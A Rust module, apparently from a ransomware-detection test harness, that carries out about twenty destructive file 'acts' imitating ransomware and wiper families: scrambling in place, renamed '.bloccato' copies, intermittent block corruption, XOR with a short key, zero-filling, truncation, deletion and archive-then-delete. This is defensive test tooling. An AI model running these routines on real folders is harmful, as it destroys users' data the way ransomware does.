//! What families of ransomware and wipers do to a file.

use super::{beside, mapped, mixed, noise, stir};
use anyhow::bail;
use std::fs::{self, File, OpenOptions};
use std::io::{self, Write as _};
use std::os::unix::fs::FileExt as _;
use std::path::{Path, PathBuf};
use std::time::Duration;

/// Block of the intermittent acts.
const BLOCK: usize = 4_096;
/// What the header-only act destroys.
const HEADER: usize = 2_048;

type Act = fn(&Path) -> io::Result<()>;

const ACTS: [(&str, Act); 20] = [
    ("in-place", |path| put(path, &mixed(&fs::read(path)?, 7))),
    ("new-and-unlink", |path| {
        fs::write(beside(path, ".bloccato"), mixed(&fs::read(path)?, 7))?;
        fs::remove_file(path)
    }),
    ("unlink-and-new", |path| {
        let bytes = fs::read(path)?;
        fs::remove_file(path)?;
        fs::write(beside(path, ".bloccato"), mixed(&bytes, 7))
    }),
    ("rename-over", |path| {
        let aside = beside(path, "~");
        fs::write(&aside, mixed(&fs::read(path)?, 7))?;
        fs::rename(aside, path)
    }),
    ("rename-first", |path| {
        let renamed = beside(path, ".bloccato");
        fs::rename(path, &renamed)?;
        put(&renamed, &mixed(&fs::read(&renamed)?, 7))
    }),
    ("meaningless-names", |path| {
        let bytes = [mixed(&fs::read(path)?, 7), noise(9, 64)].concat();
        fs::write(path.with_file_name(format!("{:016x}", stir(path.as_os_str()))), bytes)?;
        fs::remove_file(path)
    }),
    ("intermittent", |path| every_second_block(path, 0)),
    ("intermittent-no-header", |path| every_second_block(path, BLOCK)),
    ("header-only", |path| {
        let bytes = fs::read(path)?;
        let head = bytes.get(..bytes.len().min(HEADER)).unwrap_or_default();
        OpenOptions::new().write(true).open(path)?.write_all_at(&mixed(head, 7), 0)
    }),
    ("mmap", |path| mapped::mix(path).map(drop)),
    ("base64", |path| put(path, base64(&mixed(&fs::read(path)?, 7)).as_bytes())),
    ("hex", |path| put(path, hex(&mixed(&fs::read(path)?, 7)).as_bytes())),
    ("base64-new", |path| {
        fs::write(beside(path, ".b64"), base64(&mixed(&fs::read(path)?, 7)))?;
        fs::remove_file(path)
    }),
    ("short-key", |path| {
        let key = b"parola d'ordine!";
        put(path, &fs::read(path)?.iter().zip(key.iter().cycle()).map(|(b, k)| b ^ k).collect::<Vec<u8>>())
    }),
    ("zeros", |path| put(path, &vec![0; fs::read(path)?.len()])),
    ("noise", |path| put(path, &noise(stir(path.as_os_str()), fs::read(path)?.len()))),
    ("spaces", |path| put(path, &vec![b' '; fs::read(path)?.len()])),
    ("truncate", |path| OpenOptions::new().write(true).open(path)?.set_len(0)),
    ("truncate-short", |path| {
        let file = OpenOptions::new().write(true).open(path)?;
        file.set_len(file.metadata()?.len().min(10))
    }),
    ("delete", |path| fs::remove_file(path)),
];

/// Every attack that this file knows.
#[cfg(test)]
pub(super) const NAMES: [&str; 8] =
    ["in-place", "new-and-unlink", "mmap", "mmap-held", "all-open", "hex", "delete", "archive-and-delete"];

/// Carries out an attack on every file. What is refused is passed over.
pub(super) fn carry_out(act: &str, folder: &Path, files: &[PathBuf], pause: Duration) -> anyhow::Result<()> {
    match act {
        "all-open" => {
            return hold(files, |path| {
                let file = OpenOptions::new().read(true).write(true).open(path)?;
                let mut bytes = vec![0; usize::try_from(file.metadata()?.len()).unwrap_or(0)];
                file.read_exact_at(&mut bytes, 0)?;
                file.write_all_at(&mixed(&bytes, 7), 0)?;
                Ok(file)
            });
        }
        "mmap-held" => return hold(files, mapped::mix),
        "archive-and-delete" => return archive_and_delete(folder, files, pause),
        _ => {}
    }
    let Some((_, harm)) = ACTS.iter().find(|(name, _)| *name == act) else { bail!("there is no act {act}") };
    for path in files {
        let _ = harm(path);
        std::thread::sleep(pause);
    }
    Ok(())
}

/// Harms every file and lets go of them only at the end.
fn hold<T>(files: &[PathBuf], harm: impl Fn(&Path) -> io::Result<T>) -> anyhow::Result<()> {
    let held: Vec<T> = files.iter().filter_map(|path| harm(path).ok()).collect();
    std::thread::sleep(Duration::from_millis(if held.len() > 20 { 3_000 } else { 0 }));
    Ok(())
}

/// Everything into one file that nobody can read, then the originals away.
fn archive_and_delete(folder: &Path, files: &[PathBuf], pause: Duration) -> anyhow::Result<()> {
    let mut archive = File::create(folder.join("archivio.dat"))?;
    for path in files {
        archive.write_all(&mixed(&fs::read(path).unwrap_or_default(), 7))?;
    }
    drop(archive);
    for path in files {
        let _ = fs::remove_file(path);
        std::thread::sleep(pause);
    }
    Ok(())
}

/// Writes over what is there, without emptying the file first.
fn put(path: &Path, bytes: &[u8]) -> io::Result<()> {
    let file = OpenOptions::new().write(true).open(path)?;
    file.write_all_at(bytes, 0)?;
    file.set_len(bytes.len() as u64)
}

fn every_second_block(path: &Path, from: usize) -> io::Result<()> {
    let mut bytes = fs::read(path)?;
    for block in bytes.get_mut(from..).unwrap_or_default().chunks_mut(BLOCK).step_by(2) {
        let secret = mixed(block, 7);
        block.copy_from_slice(&secret);
    }
    if bytes.len() <= from {
        bytes = mixed(&bytes, 7);
    }
    put(path, &bytes)
}

fn base64(bytes: &[u8]) -> String {
    const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let letter = |six: u32| LETTERS.get((six & 63) as usize).map_or('=', |byte| char::from(*byte));
    let mut text = String::new();
    for (number, three) in bytes.chunks(3).enumerate() {
        let at = |n: usize| u32::from(three.get(n).copied().unwrap_or(0));
        let all = (at(0) << 16) | (at(1) << 8) | at(2);
        (0..4).for_each(|n| text.push(letter(all >> (18 - 6 * n))));
        if number % 19 == 18 {
            text.push('\n');
        }
    }
    text
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| format!("{byte:02x}")).collect()
}
